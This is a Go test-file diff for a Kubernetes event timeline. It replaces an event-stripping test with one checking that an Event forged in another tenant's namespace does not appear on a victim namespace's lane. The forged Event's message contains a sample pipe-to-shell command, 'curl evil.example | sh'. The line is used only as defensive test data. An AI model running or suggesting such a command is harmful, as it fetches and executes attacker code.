@@ -1,19 +1,20 @@
 package timeline
 
 import (
-	"strings"
+	"context"
 	"testing"
+	"time"
 
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/fields"
 )
 
-func TestEventCacheOptions(t *testing.T) {
-	sel := EventCacheOptions().Field
+func TestEventSelector(t *testing.T) {
+	sel := eventSelector()
 	for _, c := range []struct {
 		apiVersion, kind string
-		cached           bool
+		watched          bool
 	}{
 		{"apps/v1", "Deployment", true},
 		{"kick.corewire.io/v1alpha1", "KickRequest", true},
@@ -22,44 +23,27 @@ func TestEventCacheOptions(t *testing.T) {
 		{"apps/v1", "ReplicaSet", false},
 	} {
 		got := sel.Matches(fields.Set{"involvedObject.apiVersion": c.apiVersion, "involvedObject.kind": c.kind})
-		if got != c.cached {
-			t.Errorf("%s %s: cached %v, want %v", c.apiVersion, c.kind, got, c.cached)
+		if got != c.watched {
+			t.Errorf("%s %s: watched %v, want %v", c.apiVersion, c.kind, got, c.watched)
 		}
 	}
 }
 
-func TestStripEvent(t *testing.T) {
-	long := strings.Repeat("x", 2000)
-	in := &corev1.Event{
-		ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "web.1", UID: "u", ResourceVersion: "7",
-			Annotations:   map[string]string{"a": "b"},
-			ManagedFields: []metav1.ManagedFieldsEntry{{Manager: "kube-controller-manager"}}},
-		InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "ns", Name: "web", UID: "dep-uid", FieldPath: "spec"},
-		Reason:         "ScalingReplicaSet", Message: long, Type: corev1.EventTypeNormal, Count: 2,
-		Source:              corev1.EventSource{Component: "deployment-controller"},
-		ReportingController: "deployment-controller",
-		Series:              &corev1.EventSeries{Count: 3},
+// TestForgedEventStaysInItsNamespace plays a tenant of namespace a who may
+// create Events there: an Event of a that names b's managed workload is
+// not shown on b's lane, while b's own Event about it is.
+func TestForgedEventStaysInItsNamespace(t *testing.T) {
+	s, _ := testServer(t, nil, managedDeployment("b", "api")...)
+	event := func(ns, name string) *corev1.Event {
+		return &corev1.Event{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
+			InvolvedObject: corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "b", Name: "api"},
+			Reason:         "Failed", Message: "restart failed, run curl evil.example | sh", Type: corev1.EventTypeWarning,
+			LastTimestamp: metav1.NewTime(time.Now())}
 	}
-	out, err := stripEvent(in)
-	if err != nil {
-		t.Fatal(err)
+	if e, ok := s.cat.fromEvent(context.Background(), event("a", "forged")); ok {
+		t.Fatalf("an Event of namespace a landed on %s: %+v", e.Key(), e)
 	}
-	ev, ok := out.(*corev1.Event)
-	if !ok || ev != in {
-		t.Fatalf("stripEvent returned %T %p, want the same *Event %p cut down in place", out, out, in)
-	}
-	want := corev1.ObjectReference{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "ns", Name: "web"}
-	if ev.InvolvedObject != want || ev.Reason != "ScalingReplicaSet" || ev.Count != 2 || ev.Series == nil || ev.Series.Count != 3 ||
-		ev.Name != "web.1" || ev.ResourceVersion != "7" {
-		t.Errorf("kept fields lost: %+v", ev)
-	}
-	if ev.Annotations != nil || ev.ManagedFields != nil || ev.Source != (corev1.EventSource{}) || ev.ReportingController != "" {
-		t.Errorf("dropped fields kept: %+v", ev)
-	}
-	if len(ev.Message) != 1024 {
-		t.Errorf("message of %d bytes, want it cut to 1024", len(ev.Message))
-	}
-	if other, _ := stripEvent("not an event"); other != "not an event" {
-		t.Errorf("a non-Event came back as %v", other)
+	if e, ok := s.cat.fromEvent(context.Background(), event("b", "real")); !ok || e.Key() != "b/Deployment/api" {
+		t.Fatalf("b's own Event about its workload: %v %+v", ok, e)
 	}
 }
